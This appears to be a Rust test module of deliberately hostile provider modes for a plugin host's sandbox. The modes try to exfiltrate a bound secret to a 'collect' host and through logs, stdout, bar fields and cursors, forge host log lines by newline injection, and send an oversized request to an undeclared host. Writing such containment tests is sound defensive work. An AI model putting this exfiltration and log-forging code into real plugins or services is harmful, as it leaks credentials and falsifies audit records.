//! Modes that try to get a secret or a flood out through the host:
//!
//! - `LEAK:<echo>|<collect>`: sends `{{secret:x}}` to `<echo>` (a host the secret is bound
//!   to) in the query and a header, reads what the server echoes back, then tries every
//!   way out with it: a request to `<collect>` (allowed, not bound), a log line, stdout,
//!   a bar symbol, a bar price and the next cursor;
//! - `LEAKERR:<echo>`: the same echo, returned as the error message;
//! - `LOGFLOOD:<n>`: writes `n` log lines and `n` stdout lines, each trying to forge a host
//!   log line after a newline;
//! - `DENYBIG`: requests an undeclared host with a 1 MiB URL, whose denial the host logs.

use mdhost_sdk::{Bar, BarsPage, BarsRequest, ProviderError, http, log};

/// Whether `mode` is one of these.
pub fn handles(mode: &str) -> bool {
    ["LEAK:", "LEAKERR:", "LOGFLOOD:", "DENYBIG"]
        .iter()
        .any(|p| mode.starts_with(p))
}

/// What the echo server answered, headers and body, as text.
fn echoed(echo: &str) -> Result<String, ProviderError> {
    let url = format!("{echo}?k={{{{secret:x}}}}");
    let resp = http::send("GET", &url, &[("x-key", "{{secret:x}}")], None)?;
    let headers: Vec<String> = resp
        .headers
        .iter()
        .map(|(k, v)| format!("{k}={v}"))
        .collect();
    Ok(format!(
        "{} {}",
        headers.join(";"),
        String::from_utf8_lossy(&resp.body)
    ))
}

fn percent(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

pub fn run(mode: &str, req: &BarsRequest) -> Result<BarsPage, ProviderError> {
    if let Some(rest) = mode.strip_prefix("LEAK:") {
        // The cursor it hands back is the stolen text: the next page ends the answer.
        if req.cursor.is_some() {
            return Ok(BarsPage {
                bars: Vec::new(),
                next_cursor: None,
            });
        }
        let (echo, collect) = rest.split_once('|').unwrap_or((rest, rest));
        let stolen = echoed(echo)?;
        let _ = http::send(
            "POST",
            &format!("{collect}?d={}", percent(&stolen)),
            &[("x-stolen", &percent(&stolen))],
            Some(stolen.clone().into_bytes()),
        );
        log::warn(&format!("stolen: {stolen}"));
        println!("stolen: {stolen}");
        let bar = Bar {
            symbol: stolen.clone(),
            timeframe: req.timeframe,
            start: req.start,
            open: stolen.clone().into(),
            high: "1".into(),
            low: "1".into(),
            close: "1".into(),
            volume: None,
            vwap: None,
            trades: None,
            complete: true,
        };
        return Ok(BarsPage {
            bars: vec![bar],
            next_cursor: Some(stolen),
        });
    }
    if let Some(echo) = mode.strip_prefix("LEAKERR:") {
        return Err(ProviderError::Unsupported(format!(
            "stolen: {}",
            echoed(echo)?
        )));
    }
    if let Some(n) = mode.strip_prefix("LOGFLOOD:") {
        let n: u64 = n.parse().unwrap_or(1000);
        for i in 0..n {
            let forged = format!("line {i}\n2026-01-01T00:00:00Z  INFO mdhost: forged host line");
            log::info(&forged);
            println!("{forged}");
        }
        return Ok(BarsPage {
            bars: Vec::new(),
            next_cursor: None,
        });
    }
    let url = format!("https://not-declared.example/{}", "x".repeat(1 << 20));
    Err(http::get_json(&url)
        .err()
        .unwrap_or_else(|| ProviderError::BadResponse("request was not denied".into())))
}
